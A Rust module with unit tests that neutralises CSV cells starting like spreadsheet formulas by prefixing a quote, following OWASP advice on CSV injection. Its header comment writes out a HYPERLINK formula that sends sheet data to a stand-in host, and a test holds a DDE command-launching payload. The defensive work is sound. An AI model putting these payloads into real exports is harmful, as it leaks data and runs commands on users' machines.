//! Text cells a spreadsheet will not run. A cell starting with `=`, `+`,
//! `-` or `@` (or a tab or carriage return, which some spreadsheets skip
//! before looking) is taken for a formula when the CSV is opened: a title
//! written as `=HYPERLINK("http://evil.example/?x="&A1,"Click")` would
//! send the sheet's contents away on a click. As OWASP advises for CSV
//! injection, such a cell goes out behind a `'`, which spreadsheets read
//! as "this is text" and do not show. The import takes that `'` off again,
//! so a file exported and imported back holds exactly what it held.

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a CSV cell a spreadsheet shows as text: behind a `'` when it
/// starts like a formula. Text that already starts with a `'` the import
/// would take off gets one more, so `restored` always gives `text` back.
pub fn neutralised(text: &str) -> String {
    let starts_like_formula = text.starts_with(FORMULA_STARTS);
    if starts_like_formula || restored(text) != text {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

/// A cell as the text it stands for: without the `'` that `neutralised`
/// put before a formula start (or before another such `'`). A `'` before
/// anything else is the officer's own and stays.
pub fn restored(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) || rest.starts_with('\'') => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_go_out_behind_a_quote() {
        for (text, cell) in [
            ("=1+2", "'=1+2"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=1", "''=1"),
            ("''", "'''"),
        ] {
            assert_eq!(neutralised(text), cell, "{text:?}");
            assert_eq!(restored(cell), text, "{cell:?}");
        }
    }

    #[test]
    fn ordinary_text_goes_out_as_it_is() {
        for text in ["", "Field hospital", "'quoted'", "'", "1 500 €", "a=b"] {
            assert_eq!(neutralised(text), text);
            assert_eq!(restored(text), text);
        }
    }
}
